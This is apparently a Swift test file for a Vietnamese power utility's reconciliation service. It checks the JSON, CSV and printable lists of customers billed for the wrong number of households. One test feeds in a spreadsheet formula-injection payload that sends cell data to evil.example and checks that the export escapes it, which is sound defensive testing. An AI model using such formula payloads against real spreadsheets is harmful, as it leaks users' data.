import Contracts
import Foundation
import GRDB
@testable import Households
import TestSupport
import Testing

/// The re-pricing list: customers billed for another number of households than their dossier
/// supports, per branch, as JSON, as the CSV a branch files and as the page it prints.
@Suite struct ReconciliationTests {
    /// Three shared meters of Tam Kỳ and one of Hội An, billed 2, 3, 1 and 2 households; the
    /// dossiers support 2, 2 (one confirmation expired) and 2 (billing does not know) households,
    /// and the last has no dossier at all.
    private func prepare(_ households: HouseholdsHarness) async throws {
        let corporation = try await households.token(.householdsOfficer, unit: "CORP")
        _ = try await households.upload("api/v1/customer-imports", csv: [
            CustomerImportTests.header,
            "PC05TK0000001,Nguyễn Văn An,Thôn 3,PC05TK,rural,2",
            "PC05TK0000002,Phạm Thị Dung,\"Tổ 5, phường An Mỹ\",PC05TK,urban,3",
            "PC05TK0000003,Hồ Văn Phúc,Tổ 1,PC05TK,urban,1",
            "PC05HA0000001,Hồ Thị Gấm,Minh An,PC05HA,urban,2",
        ].joined(separator: "\n"), token: corporation).expect(200)
        let officer = try await households.token(.householdsOfficer, unit: Samples.unit)
        _ = try await households.post("api/v1/dossiers", Samples.dossier(customerCode: "PC05TK0000001"), token: officer).expect(201)
        var second = Samples.dossier(customerCode: "PC05TK0000002", holder: Samples.neighbour, subs: [Samples.stranger])
        var subs = try #require(second["subHouseholds"] as? [[String: Any]])
        subs.append(Samples.subHousehold(Person(fullName: "Đỗ Văn Hùng", idNumber: "049186003377"), validUntil: "2025-10-31"))
        second["subHouseholds"] = subs
        _ = try await households.post("api/v1/dossiers", second, token: officer).expect(201)
        _ = try await households.post("api/v1/dossiers", Samples.dossier(
            customerCode: "PC05TK0000003", holder: Person(fullName: "Hồ Văn Phúc", idNumber: "049187005566"),
            subs: [Person(fullName: "Võ Thị Én", idNumber: "049199001122")]), token: officer).expect(201)
    }

    @Test func eachBranchListsItsCustomersWhoseBilledCountDiffersFromTheSupportedOne() async throws {
        try await HouseholdsHarness.run { households in
            try await prepare(households)
            let officer = try await households.token(.householdsOfficer, unit: Samples.unit)
            let list = try await households.get("api/v1/repricing", token: officer).expect(200)
            #expect(list["unit"] as? String == Samples.unit)
            let entries = try #require(list["entries"] as? [[String: Any]])
            #expect(entries.map { $0["customerCode"] as? String } == ["PC05TK0000002", "PC05TK0000003"])
            #expect(entries.map { $0["billed"] as? Int } == [12, 4])
            #expect(entries.map { $0["supported"] as? Int } == [8, 8])
            #expect(entries.allSatisfy { $0["since"] != nil })

            let corporation = try await households.token(.householdsOfficer, unit: "CORP")
            let all = try await households.get("api/v1/repricing", token: corporation).expect(200)
            #expect((all["entries"] as? [[String: Any]])?.map { $0["customerCode"] as? String } ==
                    ["PC05HA0000001", "PC05TK0000002", "PC05TK0000003"])
            let hoiAn = try await households.get("api/v1/repricing?unit=PC05HA", token: corporation).expect(200)
            #expect((hoiAn["entries"] as? [[String: Any]])?.first?["supported"] as? Int == 4)
        }
    }

    @Test func theListIsReadPageByPageAfterTheLastCustomerOfEachPage() async throws {
        try await HouseholdsHarness.run { households in
            try await prepare(households)
            let corporation = try await households.token(.householdsOfficer, unit: "CORP")
            let first = try await households.get("api/v1/repricing?limit=2", token: corporation).expect(200)
            #expect((first["entries"] as? [[String: Any]])?.map { $0["customerCode"] as? String } ==
                    ["PC05HA0000001", "PC05TK0000002"])
            #expect(first["next"] as? String == "PC05TK0000002")
            let second = try await households.get("api/v1/repricing?limit=2&after=PC05TK0000002", token: corporation)
                .expect(200)
            #expect((second["entries"] as? [[String: Any]])?.map { $0["customerCode"] as? String } == ["PC05TK0000003"])
            #expect(second["next"] == nil)

            let officer = try await households.token(.householdsOfficer, unit: Samples.unit)
            let branchPage = try await households.get("api/v1/repricing?limit=1", token: officer).expect(200)
            #expect((branchPage["entries"] as? [[String: Any]])?.map { $0["customerCode"] as? String } == ["PC05TK0000002"])
            #expect(branchPage["next"] as? String == "PC05TK0000002")
            let otherUnit = try await households.get("api/v1/repricing?unit=PC05HA&limit=1", token: officer)
            #expect(otherUnit.status == 403, "a branch officer still reads only their branch's list")

            let refused = try await households.get("api/v1/repricing?limit=0", token: officer)
            #expect(refused.status == 422)
            #expect(try refused.errorFields() == ["limit"])
            #expect(try refused.englishMessage()?.contains("1 to 1000") == true)
        }
    }

    @Test func theListPrintsAndExportsWithVietnameseHeadings() async throws {
        try await HouseholdsHarness.run { households in
            try await prepare(households)
            let officer = try await households.token(.householdsOfficer, unit: Samples.unit)
            let csv = try await households.get("api/v1/repricing.csv", token: officer)
            #expect(csv.status == 200)
            #expect(csv.body.starts(with: [0xEF, 0xBB, 0xBF]), "a byte-order mark, for spreadsheet software")
            let lines = String(decoding: csv.body.dropFirst(3), as: UTF8.self).components(separatedBy: "\r\n")
            #expect(lines[0] == "STT,Mã khách hàng,Tên khách hàng,Địa chỉ,Đơn vị,Số hộ đang tính giá (CMIS),"
                    + "Số hộ theo hồ sơ QLHP,Chênh lệch,Chênh lệch từ ngày")
            #expect(lines[1].hasPrefix("1,PC05TK0000002,Phạm Thị Dung,\"Tổ 5, phường An Mỹ\",PC05TK,3,2,−1,"))
            #expect(lines[2].hasPrefix("2,PC05TK0000003,Hồ Văn Phúc,Tổ 1,PC05TK,1,2,+1,"))

            let page = try await households.get("api/v1/repricing.html", token: officer)
            #expect(page.status == 200)
            #expect(page.text.contains(#"<link rel="stylesheet" href="/assets/print-1.css">"#))
            #expect(!page.text.contains("<style") && !page.text.contains("onclick") && !page.text.contains("style="),
                    "no inline style or script, which the pages' Content-Security-Policy blocks")
            let sheet = try await households.get("assets/print-1.css", token: officer)
            #expect(sheet.text.contains("@page { size: A4 landscape"))
            #expect(try await households.get("assets/print-1.js", token: officer).text.contains("window.print()"))
            #expect(page.text.contains("Danh sách khách hàng cần điều chỉnh số hộ sử dụng điện"))
            #expect(page.text.contains("<td>PC05TK0000002</td><td>Phạm Thị Dung</td>"))
            #expect(page.text.contains("2 khách hàng"))
            #expect(!page.text.contains("PC05HA0000001"))
        }
    }

    /// The whole list is written while it is read, a page of the store's reads at a time: a list
    /// of more pages than one comes whole, in order and once each, as JSON, CSV and the printed
    /// page alike; and a list with no customer is a document that says so.
    @Test func aListLongerThanAPageIsWrittenWholeInEveryForm() async throws {
        try await HouseholdsHarness.run { households in
            let officer = try await households.token(.householdsOfficer, unit: Samples.unit)
            let empty = try await households.get("api/v1/repricing", token: officer).expect(200)
            #expect((empty["entries"] as? [Any])?.isEmpty == true)
            #expect(empty["unit"] as? String == Samples.unit)
            let emptyPage = try await households.get("api/v1/repricing.html", token: officer)
            #expect(emptyPage.text.contains("0 khách hàng") && emptyPage.text.contains("Không có khách hàng nào cần điều chỉnh."))

            let count = HouseholdsReports.streamedPageSize * 2 + 1
            let codes = (1...count).map { "PC05TK" + String(format: "%07d", $0) }
            let corporation = try await households.token(.householdsOfficer, unit: "CORP")
            _ = try await households.upload("api/v1/customer-imports", csv: ([CustomerImportTests.header] + codes.map {
                "\($0),Khách hàng \($0.suffix(4)),Tổ \($0.suffix(4)),PC05TK,urban,2"
            }).joined(separator: "\n"), token: corporation).expect(200)

            let list = try await households.get("api/v1/repricing", token: officer).expect(200)
            let entries = try #require(list["entries"] as? [[String: Any]])
            #expect(entries.map { $0["customerCode"] as? String } == codes)
            #expect(entries.last?["name"] as? String == "Khách hàng \(codes.last!.suffix(4))")
            #expect(list["unit"] as? String == Samples.unit && list["generatedAt"] is String && list["next"] == nil)

            let csv = try await households.get("api/v1/repricing.csv", token: officer)
            #expect(csv.header("transfer-encoding") == "chunked" && csv.header("content-length") == nil,
                    "written while it is read: its length is not known before its end")
            let lines = String(decoding: csv.body.dropFirst(3), as: UTF8.self).components(separatedBy: "\r\n")
            #expect(lines.count == count + 2, "the headings, a line per customer, and the last line's end")
            #expect(lines.dropFirst().dropLast().enumerated().allSatisfy { index, line in
                line.hasPrefix("\(index + 1),\(codes[index]),")
            })

            let page = try await households.get("api/v1/repricing.html", token: officer)
            #expect(page.text.contains("\(count) khách hàng"))
            #expect(page.text.components(separatedBy: "<tr><td class=\"n\">").count == count + 1)
            #expect(page.text.contains("<tr><td class=\"n\">\(count)</td><td>\(codes.last!)</td>"))
            #expect(!page.text.contains("Không có khách hàng") && page.text.hasSuffix("</html>"))
        }
    }

    /// Customers' names and addresses, kept in plain text by earlier versions, are sealed by
    /// a migration and still listed opened.
    @Test func earlierCustomersAreSealedAndStillListed() throws {
        let personalData = TemporaryStore.protector(6)
        let migrator = HouseholdsService.migrator(personalData: personalData)
        let pool = try TemporaryStore.earlierVersion(of: migrator, upTo: "households.count-change-requests")
        try pool.write { db in
            for index in 1...3 {
                try db.execute(sql: """
                    INSERT INTO households_customers (customer_code, name, address, branch, area_class, household_quarters,
                        count_since, last_import)
                    VALUES (?, ?, ?, 'PC05TK', 'urban', 8, 0, 1)
                    """, arguments: ["PC05TK000000\(index)", "Phạm Thị Dung \(index)", "Tổ 5, phường An Mỹ \(index)"])
            }
        }
        let plain = ["Phạm Thị Dung", "phường An Mỹ"]
        #expect(try StoreFileScan.plainTexts(plain, in: pool) == plain)

        try migrator.migrate(pool)

        #expect(try StoreFileScan.plainTexts(plain, in: pool).isEmpty)
        let entries = try pool.read { db in try Reconciliation(personalData: personalData).differences(unit: "PC05TK", in: db) }
        #expect(entries.map(\.name) == ["Phạm Thị Dung 1", "Phạm Thị Dung 2", "Phạm Thị Dung 3"])
        #expect(entries.map(\.address) == ["Tổ 5, phường An Mỹ 1", "Tổ 5, phường An Mỹ 2", "Tổ 5, phường An Mỹ 3"])
    }

    @Test func theExportWritesANameOrAddressASpreadsheetWouldRunAsText() async throws {
        try await HouseholdsHarness.run { households in
            let corporation = try await households.token(.householdsOfficer, unit: "CORP")
            _ = try await households.upload("api/v1/customer-imports", csv: [
                CustomerImportTests.header,
                #"PC05TK0000009,"=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")",@SUM(A1:A9),PC05TK,urban,2"#,
            ].joined(separator: "\n"), token: corporation).expect(200)
            let officer = try await households.token(.householdsOfficer, unit: Samples.unit)
            let csv = try await households.get("api/v1/repricing.csv", token: officer)
            #expect(csv.status == 200)
            let lines = String(decoding: csv.body.dropFirst(3), as: UTF8.self).components(separatedBy: "\r\n")
            #expect(lines[1].hasPrefix(#"1,PC05TK0000009,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")",'@SUM(A1:A9),PC05TK,2,1,−1,"#))
        }
    }
}
